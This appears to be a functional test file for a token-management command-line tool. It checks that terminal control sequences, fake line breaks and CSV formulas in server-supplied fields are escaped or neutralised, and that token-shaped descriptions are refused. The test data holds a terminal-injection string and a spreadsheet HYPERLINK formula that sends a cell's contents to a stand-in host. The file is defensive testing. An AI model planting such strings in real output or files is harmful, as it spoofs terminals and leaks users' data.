"""What a server or a file says reaches the terminal escaped, in every
format; flat formats print lists space-separated and absent values empty;
CSV cells cannot run as formulas; secret-shaped descriptions are refused."""

from __future__ import annotations

import csv
import http.server
import io
import json
import threading

import fixtures
import yaml

from ntcli_core.terminal import escape
from tests.functional import base

HOSTILE = '\x1b]0;PWNED\x07\x1b[31mred\r\njti_fake\u202e'
FORMULA = '=HYPERLINK("http://x.example/?"&A1)'


class TestHostileDescriptions(base.FunctionalTest):

    def setUp(self):
        super().setUp()
        self.authority = self.runner.embedded_endpoint()
        self.ntcli('token', 'refresh')
        self.hostile = self.authority.issue_token(description=HOSTILE)
        self.formula = self.authority.issue_token(description=FORMULA)

    def listing(self, fmt, *args):
        result = self.ntcli('token', 'list', '--long', '-f', fmt, *args)
        for char in '\x1b\x07\r\u202e':
            self.assertNotIn(char, result.stdout, fmt)
        return result.stdout

    def test_table_and_value_escape_every_column(self):
        table = self.listing('table')
        self.assertIn(escape(HOSTILE), table)
        rows = self.listing('value', '-c', 'JTI', '-c', 'Description')
        self.assertEqual(3, len(rows.splitlines()), rows)
        self.assertNotIn('\njti_fake', rows)

    def test_csv_rows_are_whole_and_formulas_neutralised(self):
        rows = list(csv.reader(io.StringIO(self.listing('csv'))))
        self.assertEqual(4, len(rows))
        header = rows[0]
        by_jti = {row[0]: dict(zip(header, row, strict=True))
                  for row in rows[1:]}
        self.assertEqual("'" + FORMULA,
                         by_jti[self.formula.jti]['Description'])
        self.assertEqual(escape(HOSTILE),
                         by_jti[self.hostile.jti]['Description'])

    def test_json_and_yaml_keep_the_exact_text(self):
        rows = json.loads(self.listing('json'))
        self.assertIn(HOSTILE, [r['Description'] for r in rows])
        rows = yaml.safe_load(self.listing('yaml'))
        self.assertIn(HOSTILE, [r['Description'] for r in rows])


class TestFlatFormats(base.FunctionalTest):

    def test_lists_are_space_separated_and_absent_values_empty(self):
        self.ntcli('token', 'refresh', '--no-expiry')
        rows = list(csv.reader(io.StringIO(self.ntcli(
            'token', 'list', '-f', 'csv', '-c', 'Scope', '-c', 'Expires',
            '-c', 'Description').stdout)))
        self.assertEqual(['Expires', 'Scope', 'Description'], rows[0])
        expires, scope, description = rows[1]
        self.assertEqual(('', ''), (expires, description))
        listed = self.json('token', 'list', '-c', 'Scope')[0]['Scope']
        self.assertEqual(' '.join(listed), scope)
        self.assertEqual('\n', self.ntcli('token', 'show', '-f', 'value',
                                          '-c', 'expires_at').stdout)
        shell = self.ntcli('token', 'show', '-f', 'shell', '-c',
                           'scope').stdout
        self.assertRegex(shell, r'^scope="[a-z:]+( [a-z:]+)*"\n$')

    def test_booleans_are_true_or_false_as_json_writes_them(self):
        self.ntcli('token', 'refresh')
        self.ntcli('token', 'create')
        rows = list(csv.DictReader(io.StringIO(self.ntcli(
            'token', 'list', '--long', '-f', 'csv').stdout)))
        self.assertEqual(['false', 'true'],
                         sorted(row['Current'] for row in rows))
        values = self.ntcli('token', 'list', '-f', 'value', '-c',
                            'Current').stdout.split()
        self.assertEqual(['false', 'true'], sorted(values))
        self.assertEqual({True, False}, {row['Current'] for row in self.json(
            'token', 'list')})

    def test_token_column_alone(self):
        self.ntcli('token', 'refresh')
        result = self.ntcli('token', 'show', '-f', 'value', '-c', 'token')
        self.assertEqual(self.stored()['token'] + '\n', result.stdout)
        self.assertIn('secret', result.stderr)

    def test_scope_columns_in_every_command(self):
        self.ntcli('token', 'refresh')
        for args in (('token', 'list', '-c', 'Scope'),
                     ('token', 'list', '-c', 'Description'),
                     ('token', 'list', '--sort-column', 'Scope'),
                     ('token', 'show', '-c', 'scope'),
                     ('token', 'create', '-c', 'scope')):
            self.ntcli(*args)

    def test_list_fits_80_columns_by_default(self):
        self.ntcli('token', 'refresh')
        self.ntcli('token', 'create', '--description', 'x' * 60)
        table = self.ntcli('token', 'list').stdout
        self.assertLessEqual(max(len(line) for line in table.splitlines()),
                             80, table)
        wide = self.ntcli('token', 'list', '--long').stdout
        self.assertIn('x' * 60, wide)


class TestSecretShapedDescriptions(base.FunctionalTest):

    def test_refused_by_the_cli_before_anything_is_done(self):
        self.ntcli('token', 'refresh')
        token = self.stored()['token']
        for text in (token, f'for CI: {token[:40]}', 'ntu_abcdefgh1234'):
            result = self.ntcli('token', 'create', '--description', text,
                                expect=2)
            self.assertIn('The description looks like it holds a token',
                          result.stderr)
            self.assertNotIn(token[4:40], result.stderr)
        result = self.ntcli('workspace', 'create', 'abc', '--description',
                            'wst_eyJhbGciOi.x', expect=2)
        self.assertEqual(1, len(self.json('token', 'list')))
        self.assertEqual(['default'],
                         [w['Name'] for w in self.json('workspace', 'list')])

    def test_refused_by_the_authority(self):
        from ntcli import errors
        authority = self.runner.embedded_endpoint()
        self.assertRaises(errors.InvalidRequest, authority.issue_token,
                          description='key ntu_abcdefgh1234')


class HostileServer(fixtures.Fixture):
    """A token API on 127.0.0.1 that lists tokens whose JTI, description
    and expiry hold control characters (every GET gets that list)."""

    def _setUp(self):
        body = json.dumps({'workspace_id': WORKSPACE, 'count': 2, 'tokens': [
            {'jti': 'jti_' + 'a' * 32, 'created_at': 1, 'status': 'active',
             'expires_at': None, 'description': HOSTILE},
            {'jti': 'jti_\x1b]0;PWNED\x07', 'created_at': 1,
             'status': 'active', 'expires_at': None}]}).encode()

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self):
                self.send_response(200)
                self.send_header('Content-Type', 'application/json')
                self.send_header('Content-Length', str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, *args):
                pass
        server = http.server.ThreadingHTTPServer(('127.0.0.1', 0), Handler)
        thread = threading.Thread(target=server.serve_forever, daemon=True)
        thread.start()
        self.addCleanup(thread.join)
        self.addCleanup(server.server_close)
        self.addCleanup(server.shutdown)
        self.url = f'http://127.0.0.1:{server.server_address[1]}'


WORKSPACE = '0b8a4a3e-6f65-4a59-9f0e-2f3c4d5e6f70'


class TestHostileServer(base.FunctionalTest):

    def setUp(self):
        super().setUp()
        self.server = self.useFixture(HostileServer())
        self.env = {'NTCLI_ENDPOINT': self.server.url,
                    'NTCLI_WORKSPACE': WORKSPACE,
                    'NTCLI_TOKEN': 'wst_x.eyJzdWIiOiJ4In0.x'}

    def test_completion_offers_no_control_characters(self):
        result = self.ntcli('complete', '--query', '--', 'token', 'revoke',
                            '', env=self.env)
        self.assertEqual(['words', 'jti_' + 'a' * 32 + '\texpires never'],
                         result.stdout.splitlines())

    def test_list_in_every_format(self):
        for fmt in ('table', 'csv', 'value', 'json', 'yaml'):
            out = self.ntcli('token', 'list', '--long', '-f', fmt,
                             env=self.env).stdout
            for char in '\x1b\x07\r\u202e':
                self.assertNotIn(char, out, fmt)
